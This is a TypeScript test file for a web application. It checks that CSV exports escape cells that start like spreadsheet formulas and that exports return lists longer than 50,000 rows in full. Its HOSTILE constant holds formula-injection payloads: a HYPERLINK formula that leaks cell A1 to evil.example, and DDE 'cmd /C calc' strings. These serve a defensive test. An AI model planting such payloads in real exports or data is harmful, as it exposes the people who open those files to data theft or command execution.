import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { WALK_PAGE_SIZE } from '../../api/src/lib/cursor';
import { rowsOf } from '../../api/src/lib/rows';
import { createFund } from '../../api/src/modules/funds/service';
import { seedCore } from '../../seeds/core';
import { createTestContext, type TestClient, type TestContext } from '../support/http';
import { applicationInput, createOpenProgramme, expectOk } from '../support/intake';
import { listOperations } from '../support/openapi';
import { makeStructure, ROOT_STRUCTURE_ID } from '../support/structures';
import { subscribe } from '../../api/src/modules/bonds/subscriptions';
import { createBondsFixture, makeInvestors, openedOffering } from '../support/bonds-fixtures';

/** Cells a spreadsheet would run as a formula (OWASP's list: = + - @ tab and carriage return). */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;
const HOSTILE = {
  organisation: '=HYPERLINK("https://evil.example/?leak="&A1,"Voir")',
  project: '+SUM(1+1)*cmd|\' /C calc\'!A0',
  user: '@SUM(1+1)',
  contact: '-2+3+cmd|\' /C calc\'!A0',
};

/** RFC 4180 rows: quoted cells may hold commas, quotes doubled, and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const body = text.replace(/^\uFEFF/, '');
  for (let i = 0; i < body.length; i++) {
    const ch = body[i];
    if (quoted) {
      if (ch === '"' && body[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\n' || (ch === '\r' && body[i + 1] === '\n')) {
      if (ch === '\r') i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += ch;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

let ctx: TestContext;
let clients: Map<string, TestClient>;
let cohortId: string;
let ledgerAccountId: string;
/** A bond offering with a hostile title and a subscriber, for the bonds registers. */
let offeringId: string;
let statementId: string;
/** The hostile application's project, for its impact figures export. */
let projectId: string;
/** A structure right under the network: a territory that publishes open data. */
let territoryId: string;

beforeAll(async () => {
  ctx = await createTestContext();
  await seedCore(ctx.database.db);
  const staff = await ctx.as('staff');
  const holder = await ctx.as('project_holder');
  const programme = await createOpenProgramme(staff);
  const input = applicationInput(programme.id, HOSTILE.project);
  input.organisation.name = HOSTILE.organisation;
  input.organisation.contactName = HOSTILE.contact;
  await expectOk(holder.post('/api/applications', input));
  const registered = await ctx.client().post('/api/auth/register', { email: 'formula@example.org', name: HOSTILE.user, password: 'Lampe-verte-du-jardin', role: 'project_holder' });
  expect(registered.status).toBeLessThan(300);
  cohortId = (await expectOk(staff.post('/api/cohorts', { programmeId: programme.id, name: HOSTILE.project, startsOn: '2027-01-10', endsOn: '2027-06-30', capacity: 5 })).then((r) => r.json())).id;
  clients = new Map();
  [{ id: projectId }] = rowsOf<{ id: string }>(await ctx.database.db.execute(sql`select id from projects order by created_at desc limit 1`));
  territoryId = await makeStructure(ctx.database.db, 'Ville ouverte');
  // A fund opens its chart of accounts: the statement export needs one account to read.
  const fund = await createFund(ctx.database.db, { id: null, email: null, requestId: null }, { code: 'F-CSV', name: HOSTILE.project, type: 'co_financing', currency: 'CAD', description: '', committeeThresholdMinor: 0, structureId: ROOT_STRUCTURE_ID });
  const [account] = rowsOf<{ id: string }>(await ctx.database.db.execute(sql`select id from ledger_accounts where fund_id = ${fund.id} limit 1`));
  ledgerAccountId = account.id;
  const bonds = await createBondsFixture(ctx.database.db);
  const offering = await openedOffering(ctx.database.db, bonds, { title: HOSTILE.project });
  const [person] = await makeInvestors(ctx.database.db, offering.structureId, 1);
  await subscribe(ctx.database.db, person, person.id!, offering.id, 2);
  offeringId = offering.id;
  // A statement whose counterparty and text try a formula: its lines export must quote them.
  const today = new Date().toISOString().slice(0, 10);
  const statement = `Date,Amount,Reference,Counterparty\n${today},10.00,${HOSTILE.project.replaceAll(',', ' ')},${HOSTILE.contact.replaceAll(',', ' ')}\n`;
  const imported = await staff.post('/api/bonds/statements', { trustFundId: bonds.trustFundId, fileName: 'formula.csv', contentBase64: Buffer.from(statement).toString('base64') });
  expect(imported.status, await imported.clone().text()).toBe(201);
  statementId = ((await imported.json()) as { id: string }).id;
}, 60_000);
afterAll(() => ctx.close());

async function clientFor(access: string[]): Promise<TestClient> {
  if (access.includes('public')) return ctx.client();
  const role = access.includes('admin') ? 'admin' : access[0];
  if (!clients.has(role)) clients.set(role, await ctx.as(role as Parameters<TestContext['as']>[0]));
  return clients.get(role)!;
}

describe('CSV exports never hand a spreadsheet a formula', () => {
  it('neutralises every cell that starts like a formula, in every export of the OpenAPI document', async () => {
    const doc = await (await ctx.client().get('/api/openapi.json')).json();
    // The issuer's transfer order exists only while money remains to pay over (bonds-settlement tests it).
    const exports = listOperations(doc).filter((op) => op.method === 'GET' && op.path.endsWith('.csv') && !op.path.endsWith('/issuer-transfer.csv'));
    expect(exports.length).toBeGreaterThanOrEqual(10);
    const seen = new Map<string, string>();
    for (const op of exports) {
      const idFor = (p: string) => (p.includes('/ledger/accounts/') ? ledgerAccountId : p.includes('/bonds/offerings/') ? offeringId : p.includes('/bonds/statements/') ? statementId : p.includes('/impact/projects/') ? projectId : cohortId);
      const path = op.path.replace('{year}', '2027').replace('{territoryId}', territoryId).replace('{id}', idFor(op.path)) + (op.path.includes('/reports/') ? '?from=2020-01-01&to=2099-12-31' : '');
      const res = await (await clientFor(op.access)).get(path);
      expect(res.status, path).toBe(200);
      const text = await res.text();
      seen.set(op.path, text);
      for (const row of parseCsv(text)) {
        for (const cell of row) {
          if (PLAIN_NUMBER.test(cell)) continue;
          expect(FORMULA_START.test(cell), `${path}: ${JSON.stringify(cell)}`).toBe(false);
        }
      }
    }
    // The planted values are there, quoted rather than dropped.
    const has = (path: string, value: string) => expect(seen.get(path), path).toContain(`'${value}`.replaceAll('"', '""'));
    has('/api/applications/export.csv', HOSTILE.project);
    has('/api/organisations/export.csv', HOSTILE.organisation);
    has('/api/projects/export.csv', HOSTILE.project);
    has('/api/users/export.csv', HOSTILE.user);
    has('/api/cohorts/export.csv', HOSTILE.project);
    has('/api/bonds/offerings/export.csv', HOSTILE.project);
    has('/api/bonds/statements/{id}/lines.csv', HOSTILE.contact);
  }, 120_000);
});

describe('CSV exports hand over the whole list', () => {
  it('streams every row of a list longer than several pages, once each, in the list\'s order', async () => {
    // Past the 50,000 rows at which exports used to stop without a word, and across many pages.
    const extra = 50_000 + WALK_PAGE_SIZE + 37;
    await ctx.database.db.execute(
      sql`insert into users (email, name, status, created_at) select 'long-list-' || g || '@example.org', 'Personne ' || g, 'active', now() - (g || ' seconds')::interval from generate_series(1, ${extra}) g`,
    );
    const [{ n }] = rowsOf<{ n: string }>(await ctx.database.db.execute(sql`select count(*) as n from users`));
    const admin = await clientFor(['admin']);
    const res = await admin.get('/api/users/export.csv');
    expect(res.status).toBe(200);
    const rows = parseCsv(await res.text()).filter((row) => row.length > 1);
    const body = rows.slice(1);
    expect(body).toHaveLength(Number(n));
    const emails = body.map((row) => row[0]);
    expect(new Set(emails).size).toBe(emails.length);
    // Newest first, as the list shows them: person 1 was created last of the long list.
    const longOnes = emails.filter((e) => e.startsWith('long-list-'));
    expect(longOnes).toHaveLength(extra);
    expect(longOnes[0]).toBe('long-list-1@example.org');
    expect(longOnes[extra - 1]).toBe(`long-list-${extra}@example.org`);
  }, 120_000);
});
